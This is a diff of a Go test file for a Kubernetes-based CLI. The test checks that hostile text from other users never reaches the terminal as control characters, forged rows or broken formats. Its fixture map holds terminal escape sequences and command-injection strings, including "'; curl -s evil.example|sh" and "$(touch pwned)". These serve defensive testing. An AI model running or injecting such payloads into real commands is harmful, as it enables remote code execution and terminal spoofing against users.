@@ -5,7 +5,6 @@ package command
 
 import (
 	"bytes"
-	"cmp"
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
@@ -13,8 +12,6 @@ import (
 	"maps"
 	"net/http"
 	"net/http/httptest"
-	"os"
-	"path/filepath"
 	"regexp"
 	"slices"
 	"strings"
@@ -31,7 +28,6 @@ import (
 	"k8s.io/cli-runtime/pkg/genericiooptions"
 	"k8s.io/client-go/tools/leaderelection/resourcelock"
 	"k8s.io/utils/ptr"
-	"sigs.k8s.io/yaml"
 
 	"github.com/zonelect/zonelect/internal/apitest"
 	"github.com/zonelect/zonelect/internal/presence"
@@ -40,25 +36,14 @@ import (
 
 // hostile are texts that a terminal, a shell or a reader takes for more than a text.
 var hostile = map[string]string{
-	"C0":              "\x00\x07\x08\x0e\x7f",
-	"CSI":             "\x1b[2J\x1b[1A",
-	"title":           "\x1b]0;owned\x07",
-	"link":            "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
-	"clipboard":       "\x1b]52;c;ZXZpbA==\x07",
-	"C1 CSI":          "\u009b2J\u009d0;owned\u009c",
-	"C1 DCS":          "\u0090q\u0084\u009c",
-	"line":            "\nFORGED a row\nFORGED",
-	"carriage return": "\r\nFORGED\rFORGED",
-	"other lines":     "\u2028FORGED\u2029FORGED\u0085FORGED\v\fFORGED\tFORGED",
-	"columns":         "x\tFORGED\tFORGED",
-	"bidi":            "\u202elive\u2066x\u2069\u200f\u061c",
-	"zero width":      "\u200b\u200d\ufeff\u2060\u00ad\u180e",
-	"tags":            "\U000e0001\U000e0041\U000e007f",
-	"substitution":    "$(touch pwned)%s%!d{{.}}",
-	"backquotes":      "`touch pwned`",
-	"words":           "'; curl -s evil.example|sh & touch pwned #\"",
-	"not UTF-8":       "\xff\xfe\xc2\x80\xc2",
-	"long":            strings.Repeat("long ", 180) + "\u202e\x9b",
+	"controls":     "\x00\x07\x08\x0e\x7f\x1b[2J\x1b[1A\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\u009b2J\u0090q\u0084\u009c",
+	"lines":        "\nFORGED a row\r\nFORGED\rFORGED\u2028FORGED\u2029FORGED\u0085FORGED\v\fFORGED",
+	"columns":      "x\tFORGED\tFORGED",
+	"invisible":    "\u202elive\u2066x\u2069\u200f\u061c\u200b\u200d\ufeff\u2060\u00ad\u180e\U000e0001\U000e0041\U000e007f",
+	"substitution": "$(touch pwned)%s%!d{{.}}`touch pwned`",
+	"words":        "'; curl -s evil.example|sh & touch pwned #\"",
+	"not UTF-8":    "\xff\xfe\xc2\x80\xc2",
+	"long":         strings.Repeat("long ", 180) + "\u202e\x9b",
 }
 
 // hostileLines are the arguments of each command, below its path. TEXT stands for the hostile
@@ -183,32 +168,6 @@ func everyCommand(do func(c *cobra.Command, path string)) {
 	walk(Root())
 }
 
-// formatsOf are values of -o with a command: all that its help lists.
-func formatsOf(t *testing.T, c *cobra.Command, file string) []string {
-	t.Helper()
-	f := c.Flags().Lookup("output")
-	if f == nil {
-		return nil
-	}
-	list := regexp.MustCompile(`One of: \((.*)\)`).FindStringSubmatch(f.Usage)
-	if list == nil {
-		t.Fatalf("the help of -o does not list its formats: %s", f.Usage)
-	}
-	var all []string
-	for format := range strings.SplitSeq(list[1], ", ") {
-		switch {
-		case strings.HasSuffix(format, "file"):
-			format += "=" + file
-		case strings.HasPrefix(format, "jsonpath"):
-			format += "={@}"
-		case strings.HasSuffix(format, "template"):
-			format += "={{.}}"
-		}
-		all = append(all, format)
-	}
-	return all
-}
-
 var forgedColumn = regexp.MustCompile(`x {2,}FORGED`)
 
 // faultOf says what is wrong with an output; empty if nothing is.
@@ -237,50 +196,12 @@ func unplain(text string) string {
 	return ""
 }
 
-// unreadable says why an output in JSON or YAML cannot be read, or what its texts have.
-func unreadable(format, out string) string {
-	var v any
-	switch format {
-	case "json", "jsonpath-as-json={@}":
-		if err := json.Unmarshal([]byte(out), &v); err != nil {
-			return err.Error()
-		}
-	case "yaml":
-		if err := yaml.Unmarshal([]byte(out), &v); err != nil {
-			return err.Error()
-		}
-	}
-	var fault string
-	var walk func(any)
-	walk = func(v any) {
-		switch v := v.(type) {
-		case string:
-			fault = cmp.Or(fault, unplain(v))
-		case []any:
-			for _, one := range v {
-				walk(one)
-			}
-		case map[string]any:
-			for key, one := range v {
-				walk(key)
-				walk(one)
-			}
-		}
-	}
-	walk(v)
-	return fault
-}
-
 // TestNoTextOfOthersIsMoreThanAText: whatever others write, no command prints a control or a
 // format character, forges a row or breaks a format. A command without a line fails.
 func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
-	template := filepath.Join(t.TempDir(), "template")
-	if err := os.WriteFile(template, []byte("{{.}}"), 0o600); err != nil {
-		t.Fatal(err)
-	}
 	type call struct {
-		args   []string // TEXT stands for the hostile text
-		format string
+		args []string // TEXT stands for the hostile text
+		json bool
 	}
 	var calls []call
 	known := maps.Clone(hostileLines)
@@ -291,12 +212,12 @@ func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
 		}
 		for _, line := range lines {
 			args := slices.Concat(strings.Fields(path), strings.Fields(line))
-			calls = append(calls, call{args, ""})
-			if strings.Contains(line, "TEXT") || strings.Contains(line, "--yes") {
+			calls = append(calls, call{args, false})
+			if c.Flags().Lookup("output") == nil || strings.Contains(line, "TEXT") || strings.Contains(line, "--yes") {
 				continue // it ends with an error, or prints what a dry run prints
 			}
-			for _, format := range formatsOf(t, c, template) {
-				calls = append(calls, call{slices.Concat(args, []string{"-o", format}), format})
+			for _, format := range []string{"json", "yaml", "wide", "name", "jsonpath={@}", "go-template={{.}}"} {
+				calls = append(calls, call{slices.Concat(args, []string{"-o", format}), format == "json"})
 			}
 		}
 	})
@@ -308,7 +229,7 @@ func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
 			t.Parallel()
 			for _, c := range calls {
 				for _, refused := range [][]string{nil, {"create", "update", "patch"}, {"list"}} {
-					if refused != nil && (c.format != "" || slices.Contains(c.args, "TEXT")) {
+					if refused != nil && (slices.Contains(c.args, "-o") || slices.Contains(c.args, "TEXT")) {
 						continue // they differ in errors alone
 					}
 					inABubble(t, func(t *testing.T, w *world) {
@@ -319,44 +240,17 @@ func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
 							args[i] = strings.ReplaceAll(args[i], "TEXT", text)
 						}
 						r := w.run(args...)
-						script := len(c.args) > 1 && c.args[0] == "completion"
-						if r.out+r.errors == "" {
-							t.Errorf("%q printed nothing", args)
+						var read any
+						if err := json.Unmarshal([]byte(r.out), &read); c.json && r.out != "" && (err != nil || unplain(fmt.Sprint(read)) != "") {
+							t.Errorf("%q: %v: %.300q", c.args, err, r.out)
 						}
 						for _, out := range []string{r.out, r.errors} {
-							if script {
-								out = strings.ReplaceAll(out, "\t", "")
-							}
-							if fault := faultOf(out); fault != "" {
+							if fault := faultOf(out); fault != "" || r.out+r.errors == "" {
 								t.Errorf("%q: %s: %.300q", c.args, fault, out)
-							}
-						}
-						if r.code == exitOK || r.out != "" {
-							if fault := unreadable(c.format, r.out); fault != "" {
-								t.Errorf("%q: %s: %.300q", c.args, fault, r.out)
 							}
 						}
 					})
 				}
-			}
-		})
-	}
-}
-
-// TestOneBadPresenceBreaksNoCommand, nor does anything else that others write.
-func TestOneBadPresenceBreaksNoCommand(t *testing.T) {
-	for name, text := range hostile {
-		t.Run(name, func(t *testing.T) {
-			for line, codes := range map[string][]int{
-				"status": {exitOK}, "status op": {exitOK}, "status rec": {exitOK},
-				"migrate plan op": {exitOK}, "migrate plan rec": {exitOK}, "handover op --to op-d_1 --wait=false": {exitRefused}, "evacuate za --dry-run": {exitOK, exitRefused},
-			} {
-				inABubble(t, func(t *testing.T, w *world) {
-					w.attacked(text)
-					if r := w.run(strings.Fields(line)...); !slices.Contains(codes, r.code) {
-						t.Errorf("%s: exit code %d: %s", line, r.code, r.errors)
-					}
-				})
 			}
 		})
 	}
@@ -386,20 +280,11 @@ func TestNoHintHasATextOfOthers(t *testing.T) {
 
 // TestScriptsOfShellsPassUnchanged through the writer.
 func TestScriptsOfShellsPassUnchanged(t *testing.T) {
-	for shell, want := range map[string]func(*cobra.Command, *bytes.Buffer) error{
-		"bash":       func(c *cobra.Command, b *bytes.Buffer) error { return c.GenBashCompletionV2(b, true) },
-		"zsh":        func(c *cobra.Command, b *bytes.Buffer) error { return c.GenZshCompletion(b) },
-		"fish":       func(c *cobra.Command, b *bytes.Buffer) error { return c.GenFishCompletion(b, true) },
-		"powershell": func(c *cobra.Command, b *bytes.Buffer) error { return c.GenPowerShellCompletionWithDesc(b) },
-	} {
-		var out buffer
-		var script bytes.Buffer
-		if code := Run(t.Context(), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out}, []string{"completion", shell}); code != exitOK {
-			t.Errorf("%s: exit code %d", shell, code)
-		}
-		if err := want(Root(), &script); err != nil || out.String() != script.String() {
-			t.Errorf("%s: %v; it is changed", shell, err)
-		}
+	var out buffer
+	var script bytes.Buffer
+	code := Run(t.Context(), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out}, []string{"completion", "bash"})
+	if err := Root().GenBashCompletionV2(&script, true); err != nil || code != exitOK || out.String() != script.String() {
+		t.Errorf("exit code %d, %v; it is changed", code, err)
 	}
 }
 
@@ -415,28 +300,5 @@ func TestAWarningOfTheServerIsPlain(t *testing.T) {
 	env.config.KubeConfig = ptr.To("testdata/kubeconfig.yaml")
 	if code := run(t.Context(), env, []string{"version", "--server", server.URL}); code != exitOK || errOut.String() != "Warning: careful\ufffd\n" {
 		t.Errorf("exit code %d, %q: %s", code, &errOut, &out)
-	}
-}
-
-// TestATimeThatIsAheadBreaksNoCommand, whether clocks differ or somebody made it up.
-func TestATimeThatIsAheadBreaksNoCommand(t *testing.T) {
-	for name, ahead := range map[string]func() time.Time{
-		"a little": func() time.Time { return time.Now().Add(5 * time.Second) }, "beyond reckoning": func() time.Time { return time.Now().AddDate(600, 0, 0) },
-	} {
-		for _, released := range []bool{false, true} {
-			for _, line := range []string{"status op", "migrate plan op", "doctor op"} {
-				inABubble(t, func(t *testing.T, w *world) {
-					w.putLease(led(func(l *coordinationv1.Lease) {
-						if released {
-							releasedBy(0)(l)
-						}
-						l.Spec.RenewTime.Time = ahead()
-					}))
-					if r := w.run(strings.Fields(line)...); r.code != exitOK && line != "doctor op" || strings.Contains(r.out+r.errors, "-2562047h") {
-						t.Errorf("%s, %s, released %v: exit code %d: %s%s", line, name, released, r.code, r.out, r.errors)
-					}
-				})
-			}
-		}
 	}
 }
